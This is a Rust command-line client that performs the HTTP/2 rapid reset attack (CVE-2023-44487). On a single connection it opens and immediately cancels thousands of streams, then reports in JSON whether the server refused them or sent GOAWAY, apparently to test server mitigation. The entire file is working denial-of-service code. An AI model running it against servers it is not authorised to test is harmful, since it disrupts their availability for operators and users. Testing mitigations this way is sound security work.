//! HTTP/2 rapid reset (CVE-2023-44487) client: opens streams and cancels each at once,
//! as fast as it can, on one connection. Prints JSON: how many streams it reset, and whether
//! and why the server closed the connection (GOAWAY).

use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use clap::Parser;
use tokio::net::TcpStream;

#[derive(Parser, Debug)]
struct Args {
    /// host:port of an h2c server.
    addr: String,
    /// Most streams to open and reset.
    #[arg(long, default_value_t = 10_000)]
    streams: u32,
}

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<()> {
    let args = Args::parse();
    let tcp = TcpStream::connect(&args.addr).await.context("connect")?;
    let (client, conn) = h2::client::handshake(tcp).await.context("h2 handshake")?;
    let conn = tokio::spawn(conn);
    let started = Instant::now();
    let mut reset = 0u32;
    let mut refused = None;
    let mut client = client;
    for _ in 0..args.streams {
        client = match tokio::time::timeout(Duration::from_secs(5), client.ready()).await {
            Ok(Ok(c)) => c,
            Ok(Err(e)) => {
                refused = Some(e.to_string());
                break;
            }
            Err(_) => {
                refused = Some("stream capacity never freed".into());
                break;
            }
        };
        let req = http::Request::get(format!("http://{}/delay/1000", args.addr)).body(())?;
        match client.send_request(req, true) {
            Ok((resp, _)) => {
                // Dropping the response future cancels the stream: RST_STREAM(CANCEL).
                drop(resp);
                reset += 1;
            }
            Err(e) => {
                refused = Some(e.to_string());
                break;
            }
        }
    }
    let closed = tokio::time::timeout(Duration::from_secs(5), conn).await;
    let goaway = matches!(closed, Ok(Ok(Err(_))) | Ok(Ok(Ok(()))));
    let conn_error = match &closed {
        Ok(Ok(Err(e))) => Some(e.to_string()),
        _ => None,
    };
    println!(
        "{}",
        serde_json::json!({
            "reset": reset,
            "refused": refused,
            "connection_closed": goaway,
            "connection_error": conn_error,
            "seconds": started.elapsed().as_secs_f64(),
        })
    );
    Ok(())
}
